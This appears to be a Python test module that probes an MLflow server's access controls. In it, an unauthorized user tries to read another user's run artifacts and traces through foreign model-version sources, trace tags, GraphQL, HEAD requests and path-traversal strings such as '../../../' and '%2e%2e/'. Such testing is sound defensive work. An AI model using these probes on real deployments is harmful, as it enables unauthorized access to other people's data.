"""Attacks: by way of something of one's own that refers to what is somebody else's."""

from __future__ import annotations

import gzip
import json
import secrets

from support.guard_walk.attack import API, Outcome, attack, changed, found, own
from support.guard_walk.make_tracking import MARKER, model, put_artifact, run, spans
from support.guard_walk.world import World


@attack(
    "a version of one's own model shows the artifacts of somebody else's run",
    since="3.10.0",
    before="3.17.0",
    closed=False,
)
def version_of_a_foreign_run(w: World) -> Outcome:
    mine = own(w, "model", w.denied)
    victim = w.get("run with artifact")
    source = f"mlflow-artifacts:/{w.get('experiment')}/{victim}/artifacts"
    made = w.denied.ask("POST", f"{API}/model-versions/create", {"name": mine, "source": source, "run_id": victim})
    query = {"name": mine, "version": "1", "path": "notes.txt"}
    return found(made, w.denied.ask("GET", "/model-versions/get-artifact", query=query))


@attack(
    "… without a word about the run, by each address of its artifacts",
    since="3.10.0",
    before="3.17.0",
    closed=False,
)
def version_of_foreign_artifacts(w: World) -> Outcome:
    place = f"{w.get('experiment')}/{w.get('run with artifact')}/artifacts"
    folder = w.server.log.parent / "artifacts" / place
    sources = [f"mlflow-artifacts:/{place}", f"mlflow-artifacts:/./{place}", f"mlflow-artifacts:/0/../{place}"]
    sources += [
        f"mlflow-artifacts://127.0.0.1:{w.server.port}/{place}",
        f"runs:/{w.get('run with artifact')}/.",
        str(folder),
    ]
    sources += [f"file://{folder}", f"{w.server.url}/api/2.0/mlflow-artifacts/artifacts/{place}"]
    answers = []
    for source in sources:
        mine = own(w, "model", w.denied)
        w.denied.ask("POST", f"{API}/model-versions/create", {"name": mine, "source": source})
        query = {"name": mine, "version": "1", "path": "notes.txt"}
        answers.append(w.denied.ask("GET", "/model-versions/get-artifact", query=query))
    return found(*answers)


@attack("a trace of one's own shows the artifacts of somebody else's run", since="3.10.0")
def trace_with_foreign_artifacts(w: World) -> Outcome:
    mine, victim = own(w, "experiment", w.denied), w.get("run with artifact")
    put_artifact(
        w, f"{w.get('experiment')}/{victim}/artifacts/traces.json", json.dumps({"spans": [], "x": MARKER}).encode()
    )
    tag = {"key": "mlflow.artifactLocation", "value": f"mlflow-artifacts:/{w.get('experiment')}/{victim}/artifacts"}
    ids, info = [], {"trace_location": {"type": "MLFLOW_EXPERIMENT", "mlflow_experiment": {"experiment_id": mine}}}
    info |= {"request_time": "2026-01-01T00:00:00Z", "state": "OK"}
    old = {"experiment_id": mine, "timestamp_ms": 1, "request_metadata": []}
    for tags in ([tag], []):  # with the API of before MLflow 3
        made = w.denied.ask("POST", f"{API}/traces", {**old, "tags": tags})
        ids += [made.json()["trace_info"]["request_id"]] if made.is_good else []
    for tags in ({tag["key"]: tag["value"]}, {}):
        ids.append(f"tr-{secrets.token_hex(16)}")
        body = {"trace": {"trace_info": {**info, "trace_id": ids[-1], "tags": tags}}}
        w.denied.ask("POST", "/api/3.0/mlflow/traces", body)
    for id_ in ids:
        w.denied.ask("PATCH", f"/api/3.0/mlflow/traces/{id_}/tags", tag)
        w.denied.ask(
            "PATCH", f"{API}/traces/{id_}", {"timestamp_ms": 2, "status": "OK", "request_metadata": [], "tags": [tag]}
        )
    for encoding in ("", "gzip"):  # by OpenTelemetry
        number = secrets.token_bytes(16)
        content = spans(number, w.unique(), f"mlflow.traceTag.{tag['key']}", tag["value"])
        headers = [("Content-Type", "application/x-protobuf"), ("X-Mlflow-Experiment-Id", mine)]
        headers += [("Content-Encoding", encoding)] if encoding else []
        w.denied.ask("POST", "/v1/traces", gzip.compress(content) if encoding else content, headers=headers)
        ids.append(f"tr-{number.hex()}")
    ask = w.denied.ask
    return found(*(ask("GET", "/ajax-api/2.0/mlflow/get-trace-artifact", query={"request_id": id_}) for id_ in ids))


@attack(
    "GraphQL names the models of a run to somebody who may see the run alone",
    since="3.10.0",
    before="3.17.0",
    closed=False,
)
def models_of_a_run(w: World) -> Outcome:
    body = {"experiment_id": own(w, "experiment", w.owner)}
    seen = w.ok("POST", "2.0/mlflow/runs/create", body, w.owner)["run"]["info"]["run_id"]
    source = f"mlflow-artifacts:/{body['experiment_id']}/{seen}/artifacts"
    w.ok("POST", "2.0/mlflow/model-versions/create", {"name": model(w), "source": source, "run_id": seen}, w.owner)
    text = "query Ask($i: MlflowGetRunInput!) { mlflowGetRun(input: $i) { run { modelVersions { name } } } }"
    return found(w.denied.ask("POST", "/graphql", {"query": text, "variables": {"i": {"runId": seen}}}))


@attack("somebody else's artifacts are asked for by paths with dots and slashes", since="3.10.0")
def odd_paths(w: World) -> Outcome:
    mine, place = own(w, "run", w.denied), f"{w.get('experiment')}/{w.get('run with artifact')}/artifacts"
    answers = []
    for each in (f"./{place}", f"/{place}", f"x/../{place}", f"x%2f..%2f{place}"):
        answers.append(w.denied.ask("GET", f"/api/2.0/mlflow-artifacts/artifacts/{each}/notes.txt"))
    for each in (f"../../../{place}/notes.txt", f"%2e%2e/%2e%2e/%2e%2e/{place}/notes.txt"):
        answers.append(w.denied.ask("GET", "/get-artifact", query={"run_uuid": mine, "path": each}))
    return found(*answers)


@attack("traces of one's own become those of somebody else's run", since="3.17.0")
def traces_of_a_foreign_run(w: World) -> Outcome:
    victim, mine = run(w), own(w, "experiment")
    headers = [
        ("Content-Type", "application/x-protobuf"),
        ("X-Mlflow-Experiment-Id", mine),
        ("X-Mlflow-Run-Id", victim),
    ]
    answer = w.reader.ask("POST", "/v1/traces", spans(secrets.token_bytes(16), w.unique()), headers=headers)
    place = {"type": "MLFLOW_EXPERIMENT", "mlflow_experiment": {"experiment_id": mine}}
    search = {"locations": [place], "filter": f"run_id = '{victim}'"}
    return [answer], bool(w.ok("POST", "3.0/mlflow/traces/search", search).get("traces"))


@attack("who is kept out learns by HEAD what there is", since="3.10.0", before="3.16.0")
def head(w: World) -> Outcome:
    query = {"run_uuid": w.get("run with artifact"), "path": "notes.txt"}
    paths = ((f"{API}/experiments/get", {"experiment_id": w.get("experiment")}), ("/get-artifact", query))
    return changed(*(w.denied.ask("HEAD", path, query=each) for path, each in paths))
